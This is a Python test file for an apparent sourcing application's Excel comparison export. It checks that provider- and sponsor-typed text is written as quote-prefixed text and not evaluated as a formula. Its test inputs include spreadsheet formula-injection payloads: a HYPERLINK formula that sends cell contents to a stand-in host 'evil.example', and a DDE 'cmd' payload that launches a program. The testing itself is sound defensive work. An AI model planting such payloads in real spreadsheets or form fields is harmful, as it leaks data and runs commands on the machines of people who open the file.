"""Cells a provider or sponsor typed are text in the comparison workbook, never formulas (issue 11, item 6)."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from types import SimpleNamespace

from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from cxo.sourcing.comparison import rfp_comparison, rfp_evaluation
from cxo.sourcing.exports import comparison_xlsx
from cxo.sourcing.services.proposal import LineData, MilestoneData, ProposalData, proposal_submit

TYPED = {
    "summary": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "milestone": "+cmd|'/C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
}


def _cells(ws: Worksheet) -> dict[str, Cell]:
    return {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_typed_text_starting_like_a_formula_is_written_as_text(sw: SimpleNamespace) -> None:
    first, second, third = sw.rfp.line_items.all()
    first.description = TYPED["minus"]  # the sponsor's own line text
    first.save()
    proposal_submit(
        actor=sw.provider_user,
        invitation=sw.rfp_invitation,
        data=ProposalData(
            lines=[
                LineData(first.pk, Decimal("12000"), assumption="x"),
                LineData(second.pk, Decimal("85000.50"), assumption="x"),
                LineData(third.pk, Decimal("4000"), assumption="x"),
            ],
            timeline_summary=TYPED["summary"],
            milestones=[MilestoneData(TYPED["milestone"], dt.date(2026, 10, 1))],
            note=TYPED["at"],
        ),
    )
    sw.provider.name = TYPED["tab"]
    sw.provider.save()
    cmp = rfp_comparison(rfp=sw.rfp)
    wb = load_workbook(io.BytesIO(comparison_xlsx(cmp=cmp, evaluation=rfp_evaluation(rfp=sw.rfp))))

    comparison, timelines = _cells(wb["Comparison"]), _cells(wb["Timelines"])
    summary = timelines[TYPED["summary"]]
    milestones = timelines[f"{TYPED['milestone']} (2026-10-01)"]
    line = comparison[TYPED["minus"]]
    provider = timelines[TYPED["tab"]]
    for cell in (summary, milestones, line, provider):
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix
    assert not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)

    # Numbers stay numbers.
    row = next(r for r in wb["Comparison"].iter_rows() if r[0].value == TYPED["minus"])
    assert (row[2].value, row[2].data_type) == (6, "n")
    assert (row[3].value, row[3].data_type) == (72000, "n")
    # Ordinary text is left alone.
    assert not _cells(wb["Comparison"])["Total"].quotePrefix
